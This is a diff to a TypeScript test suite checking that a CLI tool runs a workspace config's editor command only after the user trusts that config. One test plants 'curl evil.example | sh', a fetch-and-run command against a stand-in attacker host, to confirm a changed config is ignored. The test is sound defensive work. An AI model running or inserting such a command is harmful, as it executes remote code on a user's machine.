@@ -29,7 +29,7 @@ const askingYes = () => {
 
 describe("a workspace config's editor: runs only once trusted", () => {
   it("asks once at a terminal, records the config's sha256 in ~/.config/learn/trusted.json, then runs it", async () => {
-    const ctx = await createContext({ dir: workspace({}, { config: CONFIG }), env: {} });
+    const ctx = await createContext({ dir: workspace({}, { config: CONFIG }) }, { env: {} });
     const t = term();
     const { asked, ask } = askingYes();
     expect(await editorCommand(ctx, t.io, ask)).toBe("my-editor --wait");
@@ -45,7 +45,7 @@ describe("a workspace config's editor: runs only once trusted", () => {
   });
 
   it("uses $XDG_CONFIG_HOME when set", async () => {
-    const ctx = await createContext({ dir: workspace({}, { config: CONFIG }), env: {} });
+    const ctx = await createContext({ dir: workspace({}, { config: CONFIG }) }, { env: {} });
     const xdg = tempDir("learn-xdg-");
     const t = term({ env: { XDG_CONFIG_HOME: xdg } });
     await editorCommand(ctx, t.io, askingYes().ask);
@@ -57,9 +57,9 @@ describe("a workspace config's editor: runs only once trusted", () => {
     const root = workspace({}, { config: CONFIG });
     const t = term();
     const first = askingYes();
-    await editorCommand(await createContext({ dir: root, env: {} }), t.io, first.ask);
+    await editorCommand(await createContext({ dir: root }, { env: {} }), t.io, first.ask);
     writeFileSync(join(root, "learn.config.yaml"), "editor: curl evil.example | sh\n");
-    const ctx = await createContext({ dir: root, env: {} });
+    const ctx = await createContext({ dir: root }, { env: {} });
     expect(await editorCommand(ctx, { ...t.io, interactive: false }, first.ask)).toBeUndefined();
     expect(t.err.join("")).toMatch(
       /ignoring `editor:` in .*learn\.config\.yaml: this workspace's config is not trusted/,
@@ -70,7 +70,7 @@ describe("a workspace config's editor: runs only once trusted", () => {
   });
 
   it("without a terminal, ignores an untrusted editor with a one-line notice and never asks", async () => {
-    const ctx = await createContext({ dir: workspace({}, { config: CONFIG }), env: {} });
+    const ctx = await createContext({ dir: workspace({}, { config: CONFIG }) }, { env: {} });
     const t = term({ interactive: false });
     const { asked, ask } = askingYes();
     expect(await editorCommand(ctx, t.io, ask)).toBeUndefined();
@@ -81,21 +81,21 @@ describe("a workspace config's editor: runs only once trusted", () => {
   });
 
   it("a no at the prompt is not remembered and runs nothing", async () => {
-    const ctx = await createContext({ dir: workspace({}, { config: CONFIG }), env: {} });
+    const ctx = await createContext({ dir: workspace({}, { config: CONFIG }) }, { env: {} });
     const t = term();
     expect(await editorCommand(ctx, t.io, async () => false)).toBeUndefined();
     expect(existsSync(join(t.home!, ".config", "learn", "trusted.json"))).toBe(false);
   });
 
   it("LEARN_TRUST=1 trusts without asking or recording", async () => {
-    const ctx = await createContext({ dir: workspace({}, { config: CONFIG }), env: {} });
+    const ctx = await createContext({ dir: workspace({}, { config: CONFIG }) }, { env: {} });
     const t = term({ env: { LEARN_TRUST: "1" }, interactive: false });
     expect(await editorCommand(ctx, t.io)).toBe("my-editor --wait");
     expect(existsSync(join(t.home!, ".config"))).toBe(false);
   });
 
   it("$VISUAL and $EDITOR are the user's own: used without any trust", async () => {
-    const ctx = await createContext({ dir: workspace({}, { config: CONFIG }), env: {} });
+    const ctx = await createContext({ dir: workspace({}, { config: CONFIG }) }, { env: {} });
     const t = term({ env: { EDITOR: "vi" }, interactive: false });
     expect(await editorCommand(ctx, t.io)).toBe("vi");
     expect(await editorCommand(ctx, { ...t.io, env: { ...t.io.env, VISUAL: "code -w" } })).toBe("code -w");
@@ -103,7 +103,7 @@ describe("a workspace config's editor: runs only once trusted", () => {
   });
 
   it("with HOME unset, or a read-only config folder, a yes works this time and is simply not remembered", async () => {
-    const ctx = await createContext({ dir: workspace({}, { config: CONFIG }), env: {} });
+    const ctx = await createContext({ dir: workspace({}, { config: CONFIG }) }, { env: {} });
     const noHome = term({ home: null });
     expect(await editorCommand(ctx, noHome.io, askingYes().ask)).toBe("my-editor --wait");
     expect(noHome.err.join("")).toContain("could not remember");
@@ -117,7 +117,7 @@ describe("a workspace config's editor: runs only once trusted", () => {
   });
 
   it("never rewrites a damaged trust file", async () => {
-    const ctx = await createContext({ dir: workspace({}, { config: CONFIG }), env: {} });
+    const ctx = await createContext({ dir: workspace({}, { config: CONFIG }) }, { env: {} });
     const t = term();
     const file = join(t.home!, ".config", "learn", "trusted.json");
     mkdirSync(join(file, ".."), { recursive: true });
